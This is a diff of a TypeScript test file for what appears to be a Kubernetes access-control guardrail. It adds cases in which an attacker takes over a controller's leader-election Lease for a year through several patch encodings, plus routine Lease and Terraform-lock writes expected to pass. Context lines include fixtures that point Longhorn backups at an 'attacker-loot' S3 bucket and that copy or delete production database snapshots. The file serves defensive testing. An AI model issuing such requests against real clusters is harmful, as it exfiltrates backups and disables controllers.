@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { freshSubjects, TOKEN_STATES, type TokenState, rules, startBuiltServer, type BuiltServer } from '../support/built-server.js';
 import type { CheckResponse } from '../support/grpc-client.js';
-import { envelope, lenField } from '../support/kube-protobuf.js';
+import { encodeKube, envelope, lenField } from '../support/kube-protobuf.js';
 import { judgeWrite, kubectlWrites, sendWrite, type KubeDoc, type WriteEntry } from '../support/kubectl-writes.js';
 
 /**
@@ -398,13 +398,31 @@ const prometheus: Entry[] = [
 // --- Longhorn and Rook (storage backups) --------------------------------------------------------
 
 const snapshot: Doc = { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshot', metadata: { name: 'db-pre-maint', namespace: 'payments' }, spec: { volumeSnapshotClassName: 'csi', source: { persistentVolumeClaimName: 'data-db-0' } } };
+const electionLease: Doc = { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' } };
+const tfLock = (holder?: string): Doc => ({
+  apiVersion: 'coordination.k8s.io/v1',
+  kind: 'Lease',
+  metadata: { name: 'lock-tfstate-default-platform', namespace: 'dev', labels: { tfstate: 'true', tfstateSecretSuffix: 'platform', tfstateWorkspace: 'default', 'app.kubernetes.io/managed-by': 'terraform' }, ...(holder !== undefined && { annotations: { 'app.terraform.io/lock-info': JSON.stringify({ ID: holder, Operation: 'OperationTypePlan', Who: 'engineer@laptop' }) } }) },
+  spec: holder !== undefined ? { holderIdentity: holder } : {},
+});
 const storage: Entry[] = [
   // A volume copied (day 26): production's database snapshotted, then its snapshot's handle pre-provisioned into dev.
   { op: 'CSI snapshots', what: "a VolumeSnapshot of production's database volume", req: applied(snapshot), need: 'aal3', by: 'volume-snapshots' },
   { op: 'CSI snapshots', what: "a VolumeSnapshotContent with another snapshot's handle, bound to a VolumeSnapshot in dev", req: applied({ apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshotContent', metadata: { name: 'dev-restore' }, spec: { deletionPolicy: 'Retain', driver: 'ebs.csi.aws.com', source: { snapshotHandle: 'snap-0a1b2c3d4e5f60718' }, volumeSnapshotRef: { name: 'copy', namespace: 'dev' } } }), need: 'aal3', by: 'volume-snapshots' },
   { op: 'CSI snapshots', what: "production's database snapshot deleted (its content's deletionPolicy deletes the disk snapshot)", req: deleted(snapshot), need: 'aal3', by: 'volume-snapshots' },
   // A controller's leader election taken by a holder that does not exist (day 26: the access broker).
-  { op: 'leader election', what: "a controller's Lease replaced with a year-long hold by a holder no replica has", req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' }, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'leader-election-leases' },
+  { op: 'leader election', what: "a controller's Lease replaced with a year-long hold by a holder no replica has", req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' }, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
+  { op: 'leader election', what: "a controller's Lease given a year-long duration by a merge patch of that field alone", req: patched(electionLease, { spec: { leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
+  { op: 'leader election', what: "a controller's Lease held for a year by `kubectl patch` (a strategic merge patch)", req: strategic(electionLease, { spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), need: 'aal3', by: 'guardrail:lease_held' },
+  { op: 'leader election', what: "a controller's Lease held for a year by `kubectl patch --type json`", req: jsonPatched(electionLease, [{ op: 'replace', path: '/spec/leaseDurationSeconds', value: 31536000 }]), need: 'aal3', by: 'guardrail:lease_held' },
+  { op: 'leader election', what: "a controller's Lease held for a year, in protobuf (client-go's encoding for built-in kinds)", req: { ...replaced(electionLease), body: encodeKube({ ...electionLease, spec: { holderIdentity: 'ghost', leaseDurationSeconds: 31536000 } }), headers: { 'content-type': 'application/vnd.kubernetes.protobuf' } }, need: 'aal3', by: 'guardrail:lease_held' },
+  // What writes Leases every day: a controller run on a laptop against the dev cluster renews its
+  // election every few seconds (15 s), and Terraform's kubernetes state backend sets and clears its
+  // lock Lease's holder (no duration) on every plan and apply.
+  { op: 'leader election', what: 'a controller run locally with --leader-elect renewing its Lease (15 s)', req: replaced({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'a1b2c3d4.example.com', namespace: 'dev' }, spec: { holderIdentity: 'laptop_3f1c', leaseDurationSeconds: 15, renewTime: '2026-12-02T09:14:03.000000Z' } }), need: 'routine' },
+  { op: 'Terraform state', what: "the kubernetes backend's lock Lease created with its holder", req: { ...replaced(tfLock('8c5a2f0e')), method: 'POST', path: base(tfLock('8c5a2f0e')) }, need: 'routine' },
+  { op: 'Terraform state', what: "the kubernetes backend's lock taken (holder set by an update)", req: replaced(tfLock('8c5a2f0e')), need: 'routine' },
+  { op: 'Terraform state', what: "the kubernetes backend's lock released (holder cleared by an update)", req: replaced(tfLock()), need: 'routine' },
   { op: 'Longhorn', what: "the backup-target Setting pointed at the attacker's S3 (every volume's backups)", req: patched({ apiVersion: 'longhorn.io/v1beta2', kind: 'Setting', metadata: { name: 'backup-target', namespace: 'longhorn-system' } }, { value: 's3://attacker-loot@us-east-1/' }), need: 'aal3', by: 'backup-objects' },
   { op: 'Longhorn', what: "a BackupTarget at the attacker's S3", req: applied({ apiVersion: 'longhorn.io/v1beta2', kind: 'BackupTarget', metadata: { name: 'default', namespace: 'longhorn-system' }, spec: { backupTargetURL: 's3://attacker-loot@us-east-1/', credentialSecret: 'attacker-s3', pollInterval: '300s' } }), need: 'aal3', by: 'backup-objects' },
 ];
